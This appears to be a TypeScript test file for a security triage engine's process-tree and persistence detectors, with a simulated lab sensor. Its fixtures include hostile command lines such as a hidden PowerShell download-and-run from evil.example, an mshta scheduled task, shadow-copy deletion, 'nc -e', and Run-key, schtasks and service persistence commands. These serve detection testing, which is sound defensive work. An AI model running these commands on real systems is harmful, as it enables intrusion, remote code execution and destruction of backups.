import { describe, expect, test } from "vitest";
import type { Analyzer } from "../../../src/engine/analyzers/analyzer.ts";
import { AUTOSTART_KEYS } from "../../../src/engine/analyzers/autostart-keys.ts";
import { deviceFacts } from "../../../src/engine/analyzers/device-facts.ts";
import { persistence } from "../../../src/engine/analyzers/persistence.ts";
import { processTree } from "../../../src/engine/analyzers/process-tree.ts";
import { PROCESS_TREE_RULES } from "../../../src/engine/analyzers/process-tree-rules.ts";
import type { Verdict } from "../../../src/engine/domain/alert.ts";
import { type Entity, entityKey } from "../../../src/engine/domain/entity.ts";
import type { Label, Observation } from "../../../src/engine/domain/observation.ts";
import { judge, WEIGHTS } from "../../../src/engine/domain/verdict.ts";
import type { AutostartFacts, Capabilities, DeviceCapability, DeviceFacts, ProcessFacts } from "../../../src/engine/ports.ts";
import fc from "../../support/fast-check.ts";
import { NOTHING, NOW, openLab } from "../../support/lab-capabilities.ts";
import { lookContext } from "../../support/look-context.ts";

const signal = new AbortController().signal;
const sha256 = "c".repeat(64);
const DEVICE: DeviceFacts = { id: "d-1", name: "FIN-07", os: "Windows 11", role: "workstation", users: [], online: true, isolated: false };

/** An endpoint product that saw these things on one device. */
function endpoint(seen: { processes?: ProcessFacts[]; autostarts?: AutostartFacts[] }): Capabilities {
  const never = () => Promise.reject(new Error("not asked for"));
  const devices: DeviceCapability = {
    connector: "edr",
    find: async ({ name }) => (name === "FIN-07" ? DEVICE : undefined),
    isQuarantined: never,
    seenOn: never,
    ...(seen.processes ? { processTree: async () => seen.processes ?? [] } : {}),
    ...(seen.autostarts ? { autostarts: async () => seen.autostarts ?? [] } : {}),
    isolate: never,
    release: never,
    quarantine: never,
    follow: never,
  };
  return { ...NOTHING, devices };
}

const look = async (analyzer: Analyzer, entity: Entity, capabilities: Capabilities, context = lookContext()) =>
  (await Promise.all(analyzer.looks(entity, capabilities, context).map((each) => each.run(signal)))).flat();
/** As the source's word and the observations make it. */
function verdict(observations: readonly Observation[], said?: "malicious" | "suspicious"): Verdict {
  const source: Observation[] = said
    ? [
        {
          analyzer: "source",
          source: "alert:edr",
          family: "edr-alert",
          label: said,
          weight: said === "malicious" ? WEIGHTS.sourceMalicious : WEIGHTS.sourceSuspicious,
          text: "",
          at: NOW,
        },
      ]
    : [];
  return judge({ observations: [...source, ...observations], sourceFamilies: new Set(["edr-alert"]), trusted: true, now: NOW }).verdict;
}

const minutes = (number: number) => new Date(NOW.getTime() + number * 60_000);
let pids = 100;
/** A line of programs, each started by the one before it. */
function chain(...programs: (Partial<ProcessFacts> & { name: string })[]): ProcessFacts[] {
  return programs.map((program, index) => {
    const pid = program.pid ?? ++pids;
    const facts: ProcessFacts = { startedAt: minutes(-60 + index), ...program, pid };
    programs[index] = { ...program, pid };
    return { ...facts, ...(index > 0 && program.parentPid === undefined ? { parentPid: programs[index - 1]?.pid ?? 0 } : {}) };
  });
}
const rulesOf = (observations: readonly Observation[]) => observations.map(({ raw }) => (raw as { rule?: string } | undefined)?.rule);
const system32 = (name: string) => `C:\\Windows\\System32\\${name}`;
const office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\";

describe("process-tree", () => {
  const word = { name: "WINWORD.EXE", path: `${office}WINWORD.EXE`, signer: "Microsoft Corporation" };
  test.each<[string, ProcessFacts[], string, Label]>([
    ["Word starts PowerShell", chain({ name: "explorer.exe" }, word, { name: "powershell.exe" }), "document-starts-shell", "malicious"],
    ["Acrobat starts cmd", chain({ name: "Acrobat.exe" }, { name: "cmd.exe" }), "document-starts-shell", "malicious"],
    ["Outlook starts wscript", chain({ name: "OUTLOOK.EXE" }, { name: "wscript.exe" }), "mail-starts-shell", "malicious"],
    ["Edge starts mshta", chain({ name: "msedge.exe" }, { name: "mshta.exe" }), "browser-starts-script", "malicious"],
    [
      "Chrome starts cmd",
      chain({ name: "chrome.exe" }, { name: "cmd.exe", commandLine: "cmd /c a.bat" }),
      "browser-starts-shell",
      "suspicious",
    ],
    [
      "IIS starts cmd",
      chain({ name: "w3wp.exe" }, { name: "cmd.exe", commandLine: "cmd /c whoami" }),
      "web-server-starts-shell",
      "malicious",
    ],
    [
      "IIS starts whoami",
      chain({ name: "w3wp.exe" }, { name: "whoami.exe", commandLine: "whoami /all" }),
      "web-server-starts-shell",
      "malicious",
    ],
    ["nginx starts sh", chain({ name: "/usr/sbin/nginx" }, { name: "/bin/sh" }), "web-server-starts-shell", "malicious"],
    ["Tomcat starts cmd", chain({ name: "tomcat9.exe" }, { name: "cmd.exe" }), "java-starts-shell", "suspicious"],
    ["SQL Server starts cmd", chain({ name: "sqlservr.exe" }, { name: "cmd.exe" }), "database-starts-shell", "malicious"],
    ["WMI starts PowerShell", chain({ name: "WmiPrvSE.exe" }, { name: "powershell.exe" }), "wmi-starts-shell", "suspicious"],
    ["the spooler starts cmd", chain({ name: "spoolsv.exe" }, { name: "cmd.exe" }), "system-process-starts-shell", "malicious"],
    ["mimikatz", chain({ name: "cmd.exe" }, { name: "mimikatz.exe" }), "password-tool", "malicious"],
    ["svchost from explorer", chain({ name: "explorer.exe" }, { name: "svchost.exe" }), "impossible-parent", "malicious"],
    ["lsass from services", chain({ name: "services.exe" }, { name: "lsass.exe" }), "impossible-parent", "malicious"],
    ["svchost in a profile", chain({ name: "svchost.exe", path: "C:\\Users\\mia\\svchost.exe" }), "system-name-elsewhere", "malicious"],
    [
      "notepad speaks",
      chain({ name: "notepad.exe", path: system32("notepad.exe"), connections: [{ ip: "203.0.113.9", port: 443, at: NOW }] }),
      "silent-program-speaks",
      "malicious",
    ],
    ["a copy of certutil", chain({ name: "certutil.exe", path: "C:\\Users\\mia\\certutil.exe" }), "windows-tool-elsewhere", "suspicious"],
    ["a program among the fonts", chain({ name: "upd.exe", path: "C:\\Windows\\Fonts\\upd.exe" }), "runs-from-odd-folder", "suspicious"],
    [
      "a stranger starts the error report",
      chain(
        { name: "freeze.exe", path: "C:\\Users\\mia\\Downloads\\freeze.exe" },
        { name: "WerFaultSecure.exe", path: system32("WerFaultSecure.exe"), commandLine: "WerFaultSecure.exe /h /pid 812 /tid 816" },
      ),
      "error-report-by-stranger",
      "malicious",
    ],
    ["fodhelper starts cmd", chain({ name: "fodhelper.exe" }, { name: "cmd.exe" }), "elevated-unasked", "malicious"],
    [
      "a raised component starts PowerShell",
      chain(
        { name: "dllhost.exe", commandLine: "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}" },
        { name: "powershell.exe" },
      ),
      "elevated-unasked",
      "malicious",
    ],
    ["the console starts cmd", chain({ name: "mmc.exe" }, { name: "cmd.exe" }), "console-starts-shell", "suspicious"],
    ["mshta starts PowerShell", chain({ name: "mshta.exe" }, { name: "powershell.exe" }), "script-program-starts-shell", "suspicious"],
    ["Discord starts PowerShell", chain({ name: "Discord.exe" }, { name: "powershell.exe" }), "talk-program-starts-shell", "suspicious"],
    [
      "a service is a shell",
      chain({ name: "services.exe" }, { name: "cmd.exe", commandLine: "cmd /c a.bat" }),
      "service-is-shell",
      "suspicious",
    ],
    [
      "a web application asks who it is",
      chain(
        { name: "node.exe", commandLine: "node C:\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js" },
        { name: "cmd.exe", commandLine: 'cmd.exe /d /s /c "whoami"' },
      ),
      "node-server-asks",
      "suspicious",
    ],
    [
      "a script looks for secrets",
      chain({ name: "node.exe", commandLine: "node index.js" }, { name: "cmd.exe", commandLine: "cmd /c trufflehog filesystem . --json" }),
      "script-looks-for-secrets",
      "suspicious",
    ],
    [
      "what started it runs script out of nowhere",
      chain({ name: "mshta.exe", commandLine: "mshta javascript:a" }, { name: "driverquery.exe", commandLine: "driverquery.exe" }),
      "mshta-remote",
      "suspicious",
    ],
    [
      "rundll32 speaks",
      chain({ name: "rundll32.exe", connections: [{ ip: "203.0.113.9", port: 443, at: NOW }] }),
      "host-program-speaks",
      "suspicious",
    ],
  ])("%s: %s", async (_, processes, rule, label) => {
    const last = processes.at(-1);
    const seen = await look(processTree, { kind: "process", pid: last?.pid, device: "FIN-07" }, endpoint({ processes }));
    const hit = seen.find(({ raw }) => (raw as { rule?: string } | undefined)?.rule === rule);
    expect(hit).toMatchObject({ label, family: "endpoint", technique: expect.stringMatching(/^T\d{4}/) });
    // Without the tree the source's word stays what it is; with it the verdict is another one.
    expect(verdict([], "suspicious")).toBe("suspicious");
    if (label === "malicious") expect(verdict(seen, "suspicious")).toBe("malicious");
    else expect([verdict([]), verdict(seen)]).toEqual(["unknown", "suspicious"]);
  });

  test.each<[string, ProcessFacts[]]>([
    [
      "the error report of Windows",
      chain(
        { name: "svchost.exe", path: system32("svchost.exe") },
        { name: "WerFaultSecure.exe", path: system32("WerFaultSecure.exe"), commandLine: "WerFaultSecure.exe -p /pid 4" },
      ),
    ],
    ["PowerShell where it belongs", chain({ name: "powershell.exe", path: system32("WindowsPowerShell\\v1.0\\powershell.exe") })],
    [
      "Discord reads a setting",
      chain({ name: "Discord.exe" }, { name: "cmd.exe", commandLine: "cmd /c reg query HKLM\\SOFTWARE\\Microsoft" }),
    ],
    ["a build asks git", chain({ name: "node.exe", commandLine: "node build.js" }, { name: "cmd.exe", commandLine: "cmd /c git status" })],
    [
      "a component of Windows",
      chain({
        name: "dllhost.exe",
        path: system32("dllhost.exe"),
        commandLine: "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
      }),
    ],
    ["a console by hand", chain({ name: "explorer.exe" }, { name: "powershell.exe" })],
    ["a service host", chain({ name: "services.exe" }, { name: "svchost.exe", path: system32("svchost.exe") })],
    [
      "a service host in device notation",
      chain({ name: "svchost.exe", path: "\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe" }),
    ],
    ["Outlook opens Word", chain({ name: "outlook.exe" }, word)],
    ["Word prints", chain(word, { name: "rundll32.exe", commandLine: "rundll32.exe printui.dll,PrintUIEntry /o" })],
    [
      "a password manager's helper",
      chain(
        { name: "chrome.exe" },
        {
          name: "cmd.exe",
          commandLine: 'cmd.exe /d /c "C:\\Program Files\\PM\\host.exe" chrome-extension://abc/ < \\\\.\\pipe\\chrome.nativeMessaging.in',
        },
      ),
    ],
    [
      "software distribution",
      chain({ name: "wmiprvse.exe" }, { name: "powershell.exe", commandLine: "powershell -File C:\\Windows\\CCM\\a.ps1" }),
    ],
    ["rundll32 speaks to a file server", chain({ name: "rundll32.exe", connections: [{ ip: "10.1.2.3", port: 445, at: NOW }] })],
    ["a browser speaks", chain({ name: "firefox.exe", connections: [{ ip: "203.0.113.9", port: 443, at: NOW }] })],
    ["SQL Agent's job", chain({ name: "sqlagent.exe" }, { name: "cmd.exe", commandLine: "cmd /c robocopy D:\\a E:\\b" })],
    ["Windows after smss has gone", chain({ name: "winlogon.exe", path: system32("winlogon.exe"), parentPid: 99_999 })],
  ])("%s is not accused", async (_, processes) => {
    const last = processes.at(-1);
    const seen = await look(processTree, { kind: "process", pid: last?.pid, device: "FIN-07" }, endpoint({ processes }));
    expect(seen).toMatchObject([{ label: "neutral", weight: 0 }]);
    expect(verdict(seen)).toBe("unknown");
  });

  test("an address of our own is not the internet", async () => {
    const processes = chain({ name: "notepad.exe", connections: [{ ip: "198.51.100.20", port: 443, at: NOW }] });
    const context = lookContext({ organization: { name: "", domains: [], internalRanges: ["198.51.100.0/24"] } });
    const entity: Entity = { kind: "process", pid: processes[0]?.pid, device: "FIN-07" };
    expect(await look(processTree, entity, endpoint({ processes }), context)).toMatchObject([{ label: "neutral" }]);
    expect(rulesOf(await look(processTree, entity, endpoint({ processes })))).toEqual(["silent-program-speaks"]);
  });

  /** The course of many real intrusions: a document, a script, a dropped program that takes the backups. */
  const dropper = "C:\\Users\\mia\\AppData\\Local\\Temp\\upd.exe";
  const intrusion = () =>
    chain(
      { name: "explorer.exe", path: "C:\\Windows\\explorer.exe" },
      word,
      {
        name: "powershell.exe",
        path: system32("WindowsPowerShell\\v1.0\\powershell.exe"),
        signer: "Microsoft Windows",
        sha256: "d".repeat(64),
        commandLine: "powershell -nop -w hidden -c iex(iwr http://evil.example/a)",
        connections: [
          { ip: "203.0.113.80", port: 80, at: NOW },
          { ip: "10.0.0.5", port: 88, at: NOW },
        ],
        wrote: [{ path: dropper, sha256 }, { path: "C:\\Users\\mia\\note.txt" }],
      },
      { name: "upd.exe", path: dropper, sha256 },
      { name: "vssadmin.exe", path: system32("vssadmin.exe"), signer: "Microsoft Windows", commandLine: "vssadmin delete shadows /all" },
    );

  test("what the script wrote, started and spoke to becomes evidence", async () => {
    const processes = intrusion();
    const [first] = await look(processTree, { kind: "process", pid: processes[2]?.pid, device: "FIN-07" }, endpoint({ processes }));
    expect(first).toMatchObject({ label: "malicious" });
    expect(first?.found).toEqual([
      expect.objectContaining({
        kind: "process",
        name: "upd.exe",
        sha256,
        device: "FIN-07",
        parent: system32("WindowsPowerShell\\v1.0\\powershell.exe"),
      }),
      expect.objectContaining({ kind: "process", name: "vssadmin.exe" }),
      { kind: "file", path: dropper, name: "upd.exe", sha256, device: "FIN-07" },
      { kind: "ip", address: "203.0.113.80" },
    ]);
  });
  test("the dropped program answers for what it started; the shell's own file for nothing", async () => {
    const capabilities = endpoint({ processes: intrusion() });
    const dropped = await look(processTree, { kind: "file", sha256, device: "FIN-07" }, capabilities);
    expect(rulesOf(dropped)).toContain("shadow-copy-deletion");
    expect([verdict([], "suspicious"), verdict(dropped, "suspicious")]).toEqual(["suspicious", "malicious"]);
    const shell = await look(processTree, { kind: "file", sha256: "d".repeat(64), device: "FIN-07" }, capabilities);
    expect(shell).toMatchObject([{ label: "neutral", text: expect.stringContaining("is not accused") }]);
    expect(shell[0]?.found).toBeUndefined();
  });
  test("an alert's own process is not found twice", async () => {
    const processes = intrusion();
    const named: Entity = { kind: "process", commandLine: "vssadmin delete shadows /all", device: "FIN-07" };
    const context = lookContext({ entities: [{ entity: named, roles: [] }] });
    const [first] = await look(processTree, { kind: "file", sha256, device: "FIN-07" }, endpoint({ processes }), context);
    expect(first?.found ?? []).not.toContainEqual(expect.objectContaining({ name: "vssadmin.exe" }));
  });
  test("what explorer started is not explorer's doing", async () => {
    const processes = intrusion();
    const seen = await look(processTree, { kind: "process", pid: processes[0]?.pid, device: "FIN-07" }, endpoint({ processes }));
    expect(seen).toMatchObject([{ label: "neutral" }]);
  });
  test("several of a name, none named exactly: nobody is accused", async () => {
    const processes = [...chain(word, { name: "powershell.exe" }), ...chain({ name: "explorer.exe" }, { name: "powershell.exe" })];
    const seen = await look(processTree, { kind: "process", name: "powershell.exe", device: "FIN-07" }, endpoint({ processes }));
    expect(seen).toMatchObject([{ label: "neutral", text: expect.stringContaining("does not say which") }]);
  });
  test("a survey within minutes is a weak sign for who made it", async () => {
    const shell = chain({ name: "cmd.exe" });
    const parentPid = shell[0]?.pid ?? 0;
    const asked = ["whoami /all", "net group /domain", "nltest /domain_trusts", "systeminfo"].map((commandLine, index) => ({
      pid: 9000 + index,
      parentPid,
      name: "x.exe",
      commandLine,
      startedAt: minutes(index),
    }));
    const entity: Entity = { kind: "process", pid: parentPid, device: "FIN-07" };
    expect(await look(processTree, entity, endpoint({ processes: [...shell, ...asked] }))).toMatchObject([
      { label: "suspicious", weight: WEIGHTS.treeWeak },
    ]);
    const slowly = asked.map((process, index) => ({ ...process, startedAt: minutes(index * 60) }));
    expect(await look(processTree, entity, endpoint({ processes: [...shell, ...slowly] }))).toMatchObject([{ label: "neutral" }]);
  });
  test("asks only about a device somebody named, where the product can answer", async () => {
    const capabilities = endpoint({ processes: [] });
    const file: Entity = { kind: "file", sha256 };
    expect(processTree.looks(file, capabilities, lookContext())).toEqual([]);
    expect(processTree.looks({ ...file, device: "FIN-07" }, endpoint({}), lookContext())).toEqual([]);
    const devices = (...names: string[]) =>
      lookContext({ entities: names.map((name) => ({ entity: { kind: "device", name }, roles: [] })) });
    expect(processTree.looks(file, capabilities, devices("FIN-07"))).toHaveLength(1);
    expect(processTree.looks(file, capabilities, devices("FIN-07", "FIN-08"))).toEqual([]);
    expect(await look(processTree, { ...file, device: "X" }, capabilities)).toMatchObject([
      { label: "neutral", text: expect.stringContaining("does not know") },
    ]);
  });
  test("any tree ends: rings, doubled numbers, hostile names, thousands", async () => {
    const facts = fc.record({
      pid: fc.integer({ min: 0, max: 6 }),
      parentPid: fc.integer({ min: 0, max: 6 }),
      name: fc.oneof(fc.string(), fc.constantFrom("winword.exe", "powershell.exe", "svchost.exe", "w3wp.exe")),
      startedAt: fc.date({ min: minutes(-10), max: minutes(10), noInvalidDate: true }),
      connections: fc.array(fc.record({ ip: fc.string(), port: fc.nat(), at: fc.constant(NOW) }), { maxLength: 3 }),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(facts, { maxLength: 12 }), async (processes) => {
        const seen = await look(processTree, { kind: "process", pid: 3, device: "FIN-07" }, endpoint({ processes }));
        expect(seen.length).toBeLessThanOrEqual(5);
        expect(seen.length).toBeGreaterThan(0);
      }),
    );
    const [root, ...many] = Array.from(
      { length: 5000 },
      (_, index): ProcessFacts => ({
        pid: index + 1,
        parentPid: 1,
        name: `${"n".repeat(5000)}${index}.exe`,
        commandLine: `nc -e ${"iex ".repeat(8000)}`,
        startedAt: NOW,
        wrote: [{ path: `C:\\${index}.exe` }],
      }),
    );
    const [first] = await look(
      processTree,
      { kind: "process", pid: 1, device: "FIN-07" },
      endpoint({ processes: [root as ProcessFacts, ...many] }),
    );
    expect(first?.found?.length ?? 0).toBeLessThanOrEqual(30);
    expect(first?.text.length).toBeLessThan(1000);
  });
  test("every rule names technique and public source", () => {
    for (const { technique, source } of PROCESS_TREE_RULES)
      expect([technique, source]).toEqual([
        expect.stringMatching(/^T\d{4}(\.\d{3})?$/),
        expect.stringMatching(/^https:\/\/attack\.mitre\.org\/.+\/$/),
      ]);
    expect(new Set(PROCESS_TREE_RULES.map(({ name }) => name)).size).toBe(PROCESS_TREE_RULES.length);
  });
});

describe("persistence", () => {
  const program = "C:\\Users\\mia\\AppData\\Roaming\\upd\\upd.exe";
  const file: Entity = { kind: "file", sha256, path: program, name: "upd.exe", device: "FIN-07" };
  const run: AutostartFacts = {
    kind: "registry",
    name: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    value: "Upd",
    command: `"${program}" -q`,
    createdAt: minutes(-600),
  };
  const onedrive: AutostartFacts = {
    kind: "registry",
    name: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    value: "OneDrive",
    command: '"C:\\Users\\mia\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
    signer: "Microsoft Corporation",
    createdAt: minutes(-600),
  };
  const backup: AutostartFacts = {
    kind: "scheduled-task",
    name: "\\Contoso\\Backup",
    command: "powershell.exe -NoProfile -File C:\\Scripts\\backup.ps1",
    createdAt: minutes(-600),
  };

  test("a new unsigned autostart of the file turns Suspicious into Malicious, and becomes evidence", async () => {
    const seen = await look(persistence, file, endpoint({ autostarts: [onedrive, run, backup] }));
    expect(seen).toMatchObject([{ label: "suspicious", weight: WEIGHTS.autostartStrong, family: "endpoint", technique: "T1547.001" }]);
    expect(seen[0]?.found).toEqual([{ kind: "registry", key: run.name, value: "Upd" }]);
    expect([verdict([], "suspicious"), verdict(seen, "suspicious")]).toEqual(["suspicious", "malicious"]);
    expect(await look(persistence, { kind: "process", path: program, device: "FIN-07" }, endpoint({ autostarts: [run] }))).toMatchObject([
      { label: "suspicious" },
    ]);
  });
  test.each<[string, AutostartFacts, Label]>([
    ["written with a variable", { ...run, command: "%APPDATA%\\upd\\upd.exe" }, "suspicious"],
    ["by its 8.3 profile", { ...run, command: "C:\\Users\\MIA~1\\AppData\\Roaming\\upd\\upd.exe" }, "suspicious"],
    ["old, unsigned, in a profile", { ...run, createdAt: minutes(-60 * 24 * 100) }, "suspicious"],
    ["old, signed, in a profile", { ...run, createdAt: minutes(-60 * 24 * 100), signer: "Spotify AB" }, "neutral"],
    ["another program of a longer name", { ...run, command: "C:\\Users\\mia\\AppData\\Roaming\\upd\\upd.exe2" }, "neutral"],
    ["something else", { ...run, command: "C:\\Program Files\\Other\\other.exe" }, "neutral"],
  ])("%s", async (_, autostart, label) => {
    expect(await look(persistence, file, endpoint({ autostarts: [autostart] }))).toMatchObject([{ label }]);
  });
  test("what a shell is started with is not the shell's", async () => {
    const shell: Entity = { kind: "file", path: system32("powershell.exe"), name: "powershell.exe", sha256, device: "FIN-07" };
    expect(await look(persistence, shell, endpoint({ autostarts: [backup] }))).toMatchObject([
      { label: "neutral", text: "Nothing on the device starts it by itself." },
    ]);
  });
  test("a device with an autostart only attackers write is accused, one with its usual ones is not", async () => {
    const device: Entity = { kind: "device", name: "FIN-07" };
    expect(await look(persistence, device, endpoint({ autostarts: [onedrive, backup] }))).toMatchObject([{ label: "neutral" }]);
    const task: AutostartFacts = { ...backup, name: "\\Updater", command: "mshta http://evil.example/a.hta" };
    const seen = await look(persistence, device, endpoint({ autostarts: [onedrive, task, backup] }));
    expect(seen).toMatchObject([
      { label: "malicious", technique: "T1218.005", found: [{ kind: "scheduled-task", name: "\\Updater", device: "FIN-07" }] },
    ]);
    expect([verdict([]), verdict(seen)]).toEqual(["unknown", "suspicious"]);
  });
  test.each<[Entity, Label]>([
    [{ kind: "scheduled-task", name: "Contoso\\Backup", device: "FIN-07" }, "neutral"],
    [{ kind: "service", name: "updsvc", device: "FIN-07" }, "suspicious"],
    [{ kind: "service", name: "nothing", device: "FIN-07" }, "neutral"],
  ])("%o is judged by what it starts: %s", async (entity, label) => {
    const service: AutostartFacts = { kind: "service", name: "UpdSvc", command: "C:\\Users\\Public\\u.exe", createdAt: minutes(-5) };
    expect(await look(persistence, entity, endpoint({ autostarts: [backup, service] }))).toMatchObject([{ label, family: "endpoint" }]);
  });
  test.each<[string, string | undefined, Label]>([
    ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "Updater", "neutral"],
    ["HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "C:\\Users\\Public\\u.exe", "suspicious"],
    ["HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run", "mshta http://evil.example/a.hta", "suspicious"],
    ["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", "malicious"],
    ["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "LastUsedUsername", "neutral"],
    ["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe", "Debugger", "malicious"],
    ["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe", "Debugger", "suspicious"],
    ["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows", "AppInit_DLLs", "malicious"],
    ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa", "Security Packages", "malicious"],
    ["HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", "malicious"],
    ["HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "malicious"],
    ["HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler", "ImagePath", "neutral"],
    ["HKCU\\Software\\Contoso\\Settings", "Theme", "neutral"],
  ])("the key %s %s is %s by itself", async (key, value, label) => {
    const seen = await look(persistence, { kind: "registry", key, ...(value ? { value } : {}) }, NOTHING);
    expect(seen).toMatchObject([{ label, family: "air-rules" }]);
    expect(verdict(seen)).toBe(label === "neutral" ? "unknown" : "suspicious");
  });
  test("hostile lists come back bounded", async () => {
    const autostarts = Array.from(
      { length: 5000 },
      (_, index): AutostartFacts => ({ ...run, value: `${index}${"v".repeat(9000)}`, command: `"${program}" ${"%a%".repeat(5000)}` }),
    );
    const [seen] = await look(persistence, file, endpoint({ autostarts }));
    expect(seen?.text.length).toBeLessThan(2000);
    expect(seen?.found?.length ?? 0).toBeLessThanOrEqual(10);
    const [key] = await look(persistence, { kind: "registry", key: "\\currentversion".repeat(270), value: "a".repeat(4096) }, NOTHING);
    expect(key?.label).toBe("neutral");
  });
  test("every key names technique and public source", () => {
    for (const { technique, source } of AUTOSTART_KEYS)
      expect(source).toBe(`https://attack.mitre.org/techniques/${technique.replace(".", "/")}/`);
  });
});

test("device facts tell the addresses", async () => {
  const capabilities = endpoint({});
  const devices = { ...(capabilities.devices as DeviceCapability), find: async () => ({ ...DEVICE, ips: ["10.1.2.3", "192.0.2.9"] }) };
  expect(await look(deviceFacts, { kind: "device", name: "FIN-07" }, { ...capabilities, devices })).toMatchObject([
    { label: "neutral", text: "Workstation, Windows 11; nobody is signed in; online; 10.1.2.3, 192.0.2.9." },
  ]);
});

describe("the lab's sensor", () => {
  const opened = async (entities: Entity[]) => {
    const { lab, capabilities } = openLab();
    await lab.adopt(entities);
    await lab.adopt(entities);
    return { lab, capabilities };
  };
  const named = (device: string): Entity[] => [
    { kind: "device", name: device },
    {
      kind: "process",
      name: "powershell.exe",
      commandLine: "powershell iwr http://evil.example/a -OutFile C:\\Temp\\a.exe",
      parent: `${office}WINWORD.EXE`,
      device,
    },
    { kind: "file", path: "C:\\Temp\\a.exe", sha256, device },
    { kind: "ip", address: "203.0.113.80" },
    { kind: "scheduled-task", name: "Updater", device },
  ];
  test.each(["NB-1", "kiosk-77"])("tells of %s what the alert told, once", async (device) => {
    const { lab } = await opened(named(device));
    const id = device.toLowerCase();
    const tree = await lab.devices.processTree?.(id, { kind: "process", name: "powershell.exe", device }, signal);
    expect(tree?.map(({ name }) => name).toSorted()).toEqual(["WINWORD.EXE", "powershell.exe"]);
    const shell = tree?.find(({ name }) => name === "powershell.exe");
    expect(shell).toMatchObject({ connections: [{ ip: "203.0.113.80" }], wrote: [{ path: "C:\\Temp\\a.exe", sha256 }] });
    expect(tree?.find(({ name }) => name === "WINWORD.EXE")?.pid).toBe(shell?.parentPid);
    const autostarts = await lab.devices.autostarts?.(id, signal);
    expect(autostarts?.filter(({ createdAt }) => createdAt)).toMatchObject([
      { kind: "scheduled-task", name: "Updater", command: "C:\\Temp\\a.exe" },
    ]);
  });
  test("and its tree is judged like any other", async () => {
    const { capabilities } = await opened(named("NB-1"));
    const entity = named("NB-1")[1] as Entity;
    const seen = await look(processTree, entity, capabilities);
    expect(rulesOf(seen)).toEqual(["document-starts-shell"]);
    expect(seen[0]?.found?.map(entityKey)).toEqual([`file:sha256:${sha256}`, "ip:address:203.0.113.80"]);
  });
  test("lines that make something start by itself are remembered", async () => {
    const line = (commandLine: string): Entity => ({ kind: "process", commandLine, device: "NB-1" });
    const { lab } = await opened([
      line("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d C:\\Users\\Public\\u.exe /f"),
      line('schtasks /create /tn Upd /tr "C:\\Users\\Public\\u.exe -q" /sc daily'),
      line("sc.exe create updsvc binPath= C:\\Users\\Public\\u.exe"),
    ]);
    expect((await lab.devices.autostarts?.("nb-1", signal))?.filter(({ createdAt }) => createdAt)).toMatchObject([
      { kind: "registry", value: "Upd", command: "C:\\Users\\Public\\u.exe" },
      { kind: "scheduled-task", name: "Upd", command: "C:\\Users\\Public\\u.exe -q" },
      { kind: "service", name: "updsvc", command: "C:\\Users\\Public\\u.exe" },
    ]);
  });
  test("a device nothing happened on has its usual autostarts and no tree", async () => {
    const { lab } = openLab();
    expect(await lab.devices.processTree?.("ws-001", { kind: "file", sha256 }, signal)).toEqual([]);
    expect(await lab.devices.autostarts?.("ws-001", signal)).toHaveLength(2);
    expect(await lab.devices.autostarts?.("ws-006", signal)).toEqual([]);
    await expect(lab.devices.autostarts?.("nowhere", signal)).rejects.toThrow("does not know");
  });
  test("its sandbox tells what the file did, under any name", async () => {
    const { lab } = await opened([
      { kind: "file", sha256, name: "a.exe", device: "NB-1" },
      { kind: "process", commandLine: "vssadmin delete shadows /all", parent: "a.exe", device: "NB-1" },
    ]);
    expect(await lab.sandboxes[0]?.report({ kind: "file", sha256 }, signal)).toMatchObject({ label: "malicious", techniques: ["T1490"] });
    expect(await lab.sandboxes[0]?.report({ kind: "file", sha256: "e".repeat(64) }, signal)).toBeUndefined();
    expect(await lab.sandboxes[0]?.report({ kind: "url", url: "https://evil.example" }, signal)).toBeUndefined();
  });
});
